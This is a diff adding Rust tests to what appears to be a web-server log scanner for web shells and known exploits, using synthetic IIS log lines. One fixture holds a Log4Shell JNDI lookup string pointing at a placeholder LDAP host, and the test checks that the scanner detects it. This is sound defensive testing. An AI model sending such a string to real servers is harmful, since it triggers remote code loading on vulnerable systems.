@@ -720,6 +720,59 @@ fn a_script_nobody_gets_but_that_answers_posts_is_a_web_shell_sign() {
     assert!(!real.detections.iter().any(|d| d.rule.meta.origin == "native:post-only-script"));
 }
 
+/// A script the site's visitors POST to (an AJAX handler) is the
+/// application's, however rarely anyone GETs it; one POSTed from a single
+/// address is reported, saying from how many clients.
+#[test]
+fn a_script_many_clients_post_to_is_not_a_web_shell_sign() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut log =
+        String::from("#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query c-ip sc-status\r\n");
+    for i in 0..40 {
+        log.push_str(&format!(
+            "2025-01-01 10:{i:02}:00 10.0.0.1 POST /api/save.ashx - 198.51.100.{i} 200\r\n"
+        ));
+    }
+    for i in 0..4 {
+        log.push_str(&format!("2025-01-01 11:0{i}:00 10.0.0.1 POST /uploads/up.aspx - 203.0.113.7 200\r\n"));
+    }
+    let path = dir.path().join("u_ex250101.log");
+    std::fs::write(&path, log).expect("writes");
+    let report = run(&[path], bundled());
+    let native: Vec<_> =
+        report.detections.iter().filter(|d| d.rule.meta.origin == "native:post-only-script").collect();
+    assert_eq!(native.len(), 1, "{native:#?}");
+    assert!(
+        native[0]
+            .evidence
+            .summary
+            .starts_with("4 POSTs answered 200 from 1 client, never asked for with GET"),
+        "{}",
+        native[0].evidence.summary
+    );
+}
+
+/// A detection shows the values the record gives for the fields its rule
+/// reads: a Log4Shell string in the agent shows the agent, not the path
+/// joined into a query form the rule also searched, nor the agent again
+/// with its `+` read as spaces.
+#[test]
+fn a_detection_shows_the_values_the_record_gives() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let log = "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status\r\n\
+               2025-01-01 10:00:00 GET /index.aspx - 203.0.113.7 ${jndi:ldap://x.example/a}+(x) 200\r\n";
+    let path = dir.path().join("u_ex250101.log");
+    std::fs::write(&path, log).expect("writes");
+    let report = run(&[path], bundled());
+    let log4shell: Vec<_> =
+        report.detections.iter().filter(|d| d.rule.meta.title.contains("Log4Shell")).collect();
+    assert_eq!(log4shell.len(), 1, "{:#?}", report.detections);
+    assert_eq!(
+        log4shell[0].matched,
+        [("c-useragent".to_string(), "${jndi:ldap://x.example/a}+(x)".to_string())]
+    );
+}
+
 /// A module installed behind IIS shows in every trace IIS saves afterwards:
 /// the backdoor scenario's traces name it, and no real trace's pipeline
 /// (URL Rewrite, ANCM, ARR, ModSecurity, SiteMinder, App Service's modules)
